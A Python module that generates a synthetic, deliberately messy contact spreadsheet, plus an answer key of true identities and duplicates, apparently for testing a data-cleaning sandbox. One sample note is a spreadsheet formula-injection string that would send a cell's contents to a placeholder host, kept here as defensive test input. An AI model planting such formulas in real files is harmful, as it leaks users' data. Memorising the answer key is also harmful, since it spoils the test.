"""A contact file as people really send them, about people whom the sandbox's vendors can know.

Every row carries its answer (who it is, which row it repeats), written on demand beside the file.
"""

import csv
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path

import xlsxwriter

from headwater_sandbox import names
from headwater_sandbox.dice import Dice
from headwater_sandbox.fold import ascii_text, given
from headwater_sandbox.settings import Settings
from headwater_sandbox.world import Company, Person, World

COLUMNS = ("First Name", "Last Name", "Company", "Website", "Work Email", "Phone", "Job Title", "LinkedIn", "Country",
           "Notes")  # fmt: skip
ANSWER_COLUMNS = (
    "row", "kind", "first", "last", "domain", "exists", "employed", "work_email", "current_email", "mobile", "phone",
    "duplicate_of",
)  # fmt: skip
_KINDS = (("person", 0.83), ("stranger", 0.06), ("repeat", 0.09), ("reject", 0.02))
_NOTES = (
    "", "", "", "", "", "", "", "met at trade fair", "asked for a call back in spring", "prefers e-mail; très gentil",
    '=HYPERLINK("http://sandbox.invalid/?x="&A1,"click me")', "+1 wants a demo", "-- do not use old number --",
    "@office books meetings", "said: \"maybe\", then hung up\nsecond line", "=1+1",
)  # fmt: skip


@dataclass(frozen=True)
class Row:
    """One line of the file and its answer."""

    cells: dict[str, str]
    kind: str
    person: Person | None = None
    duplicate_of: int | None = None


def rows(number: int, settings: Settings) -> Iterator[Row]:
    """So many rows; the same for the same seed and number."""
    return iter(_Maker(number, settings).make())


class _Maker:
    def __init__(self, number: int, settings: Settings) -> None:
        self.number, self.world = number, World(settings)
        self.dice: Dice = self.world.dice
        self.made: list[Row] = []
        self.firsts: list[int] = []  # rows which are neither repeats nor rejects
        self.pool = self._employees()

    def _employees(self) -> Iterator[Person]:
        """Employees company by company: big employers give many, so that their pattern can be learnt."""
        index, batch = 0, list[Person]()
        while True:
            while len(batch) < 60 + self.number // 8:
                batch += self._some_of(index)
                index += 1
            yield batch.pop(self.dice.number("employee", index, len(batch)) % len(batch))

    def _some_of(self, index: int) -> list[Person]:
        domain = self.world.domain_for(self.world.company_name(index)) or ""
        staff = self.world.colleagues(domain)
        share = self.dice.span(0.35, 1.0, "share of staff", index)
        return staff[: max(2, round(len(staff) * share))]

    def make(self) -> list[Row]:
        makers: dict[str, Callable[[int], Row]] = {
            "person": self._person, "stranger": self._stranger, "repeat": self._repeat, "reject": self._reject,
        }  # fmt: skip
        for place in range(self.number):
            kind = self.dice.weighted(_KINDS, "kind", place)
            row = makers[kind if self.firsts or kind != "repeat" else "person"](place)
            if row.kind in ("person", "stranger"):
                self.firsts.append(place)
            self.made.append(row)
        return self.made

    def _person(self, place: int) -> Row:
        return self._row_of(place, next(self.pool), "person")

    def _stranger(self, place: int) -> Row:
        """Somebody at a real company whom nobody has on a list; one in fourteen of them does not exist."""
        near = next(self.pool)
        first = self.dice.pick(names.FIRST["en"], "stranger", place)
        last = self.dice.pick(names.LAST["en"], "stranger's", place)
        return self._row_of(place, self.world.person(first, last, near.domain), "stranger")

    def _row_of(self, place: int, person: Person, kind: str) -> Row:
        company = self.world.company(person.domain)
        cells = dict.fromkeys(COLUMNS, "")
        cells["First Name"], cells["Last Name"] = self._name(place, person)
        cells["Company"], cells["Website"] = self._employer(place, company)
        cells["Work Email"] = self._email(place, person)
        cells["Phone"] = self._phone(place, person, company)
        if self._chance(0.55, "title", place):
            cells["Job Title"] = self._case(person.title, "title", place)
        if self._chance(0.16, "profile", place):
            cells["LinkedIn"] = self._profile(place, person)
        if self._chance(0.5, "country", place):
            full = self._chance(0.7, "full country", place)
            cells["Country"] = names.COUNTRY_NAMES[person.country] if full else person.country
        cells["Notes"] = self.dice.pick(_NOTES, "notes", place)
        if not cells["Company"] and not cells["Website"] and not cells["Work Email"] and not cells["LinkedIn"]:
            cells["Company"] = company.name
        return Row(cells, kind, person)

    def _chance(self, share: float, *key: object) -> bool:
        return self.dice.chance(share, "sample", *key)

    def _case(self, text: str, *key: object) -> str:
        style = self.dice.weighted((("as is", 0.84), ("upper", 0.06), ("lower", 0.07), ("space", 0.03)), "case", *key)
        return {"as is": text, "upper": text.upper(), "lower": text.lower(), "space": f"  {text} "}[style]

    def _name(self, place: int, person: Person) -> tuple[str, str]:
        first, last = person.first, person.last
        if self._chance(0.08, "plain letters", place):
            first, last = ascii_text(first), ascii_text(last)
        style = self.dice.weighted(
            (("plain", 0.86), ("doctor", 0.03), ("middle", 0.03), ("nick", 0.04), ("suffix", 0.02), ("comma", 0.02)),
            "name style", place)  # fmt: skip
        if style == "doctor":
            first = f"Dr. {first}"
        elif style == "middle":
            first = f"{first} {'ABEJMRT'[self.dice.between(0, 6, 'middle', place)]}."
        elif style == "nick":
            first = self._nickname(first, place)
        elif style == "suffix":
            last = f"{last}, PhD" if self._chance(0.5, "suffix", place) else f"{last} Jr."
        elif style == "comma":
            return f"{last}, {first}", ""
        return self._case(first, "first", place), self._case(last, "last", place)

    def _nickname(self, first: str, place: int) -> str:
        nicks = [nick for nick, formal in names.NICKNAMES.items() if formal == given(first)]
        return self.dice.pick(nicks, "nick", place).capitalize() if nicks else first

    def _employer(self, place: int, company: Company) -> tuple[str, str]:
        shapes = (("both", 0.5), ("name", 0.36), ("website", 0.13), ("none", 0.01))
        shape = self.dice.weighted(shapes, "employer", place)
        name = company.legal_name if self._chance(0.3, "legal", place) else company.name
        name = self._case(name, "company", place)
        form = ("{}", "www.{}", "https://www.{}/", "http://{}/about?utm=1", "https://{}")
        website = self.dice.pick(form, "website", place).format(company.domain)
        return (name if shape in ("both", "name") else ""), (website if shape in ("both", "website") else "")

    def _email(self, place: int, person: Person) -> str:
        kind = self.dice.weighted(
            (("none", 0.64), ("right", 0.29), ("old", 0.02), ("private", 0.02), ("broken", 0.02), ("web", 0.01)),
            "email", place)  # fmt: skip
        if kind == "none":
            return ""
        address = person.email or person.former_email or ""
        if kind == "right":
            return self._case(address, "email", place).strip()
        if kind == "old":
            other = self.world.domain_for(self.world.company_name(self.dice.between(0, 9999, "old", place)))
            return f"{ascii_text(person.first).split()[0].lower()}@{other}"
        if kind == "private":
            return f"{ascii_text(person.first + person.last).replace(' ', '').lower()}@gmail.com"
        if kind == "web":
            return f"https://www.{person.domain}/contact"
        broken = ("n/a", address.replace("@", " at "), address.replace("@", "@@"), f"{address},", "unknown")
        return self.dice.pick(broken, "broken", place)

    def _phone(self, place: int, person: Person, company: Company) -> str:
        if not self._chance(0.3, "phone", place):
            return ""
        numbers = [number for number in (person.mobile, person.phone, company.phone) if number]
        if not numbers:
            return ""
        shown = [_spaced(number, self.dice.between(0, 3, "spaces", place, number)) for number in numbers]
        if len(shown) > 1 and self._chance(0.2, "several", place):
            return self.dice.pick((" / ", "; ", " or ", ", "), "between", place).join(shown)
        return shown[0]

    def _profile(self, place: int, person: Person) -> str:
        form = ("https://www.linkedin.com/in/{}", "linkedin.com/in/{}/", "http://linkedin.com/in/{}?trk=x")
        return self.dice.pick(form, "profile form", place).format(person.linkedin)

    def _repeat(self, place: int) -> Row:
        """An earlier row once more: as it was, in capitals, under a nickname, or with the domain for the name."""
        source = self.dice.pick(self.firsts, "repeat of", place)
        before = self.made[source]
        assert before.person is not None
        cells = dict(before.cells)
        style = self.dice.pick(("exact", "case", "nick", "domain", "plain"), "repeat style", place)
        if style == "case":
            cells["First Name"], cells["Last Name"] = cells["First Name"].upper(), cells["Last Name"].upper()
        elif style == "nick":
            cells["First Name"] = self._nickname(before.person.first, place)
            cells["Last Name"] = before.person.last
        elif style == "domain":
            cells["Company"], cells["Website"] = "", before.person.domain
        elif style == "plain":
            cells["First Name"], cells["Last Name"] = ascii_text(before.person.first), ascii_text(before.person.last)
        return Row(cells, "repeat", before.person, source)

    def _reject(self, place: int) -> Row:
        cells = dict.fromkeys(COLUMNS, "")
        junk: tuple[Mapping[str, str], ...] = (
            {"Notes": "see other sheet"}, {"First Name": "-", "Last Name": "-", "Company": "-"},
            {"Job Title": "Sales Manager", "Country": "France"}, {"Phone": "0000"}, {"Work Email": "none"},
            {"First Name": "TOTAL", "Phone": str(place)},
        )  # fmt: skip
        return Row(cells | dict(self.dice.pick(junk, "junk", place)), "reject")


def _spaced(number: str, style: int) -> str:
    """An E.164 number as people write it."""
    if number.startswith("+1"):
        area, middle, end = number[2:5], number[5:8], number[8:]
        return (number, f"({area}) {middle}-{end}", f"{area}.{middle}.{end}", f"1-{area}-{middle}-{end}")[style]
    code, rest = number[:3], number[3:]
    pairs = " ".join(rest[start : start + 3] for start in range(0, len(rest), 3))
    return (number, f"{code} {pairs}", f"00{code[1:]} {pairs}", f"{code} (0){pairs}")[style]


def write(path: Path, number: int, settings: Settings, answers: Path | None = None) -> None:
    """Write the file (.xlsx, else CSV), and its answers if asked."""
    made = list(rows(number, settings))
    if path.suffix.lower() == ".xlsx":
        _write_excel(path, made)
    else:
        with path.open("w", newline="", encoding="utf-8") as file:
            writer = csv.DictWriter(file, COLUMNS)
            writer.writeheader()
            writer.writerows(row.cells for row in made)
    if answers:
        with answers.open("w", newline="", encoding="utf-8") as file:
            listing = csv.writer(file)
            listing.writerow(ANSWER_COLUMNS)
            listing.writerows(_answer(place, row) for place, row in enumerate(made))


def _write_excel(path: Path, made: list[Row]) -> None:
    with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False}) as book:
        sheet = book.add_worksheet("Contacts")
        sheet.write_row(0, 0, COLUMNS)
        for place, row in enumerate(made, 1):
            sheet.write_row(place, 0, [row.cells[column] for column in COLUMNS])


def _answer(place: int, row: Row) -> list[object]:
    """Row number (the first line under the header is 0) and who it really is."""
    who = row.person
    duplicate = "" if row.duplicate_of is None else row.duplicate_of
    if who is None:
        return [place, row.kind, *[""] * 9, duplicate]
    return [place, row.kind, who.first, who.last, who.domain, who.exists, who.employed, who.email, who.current_email,
            who.mobile, who.phone, duplicate]  # fmt: skip
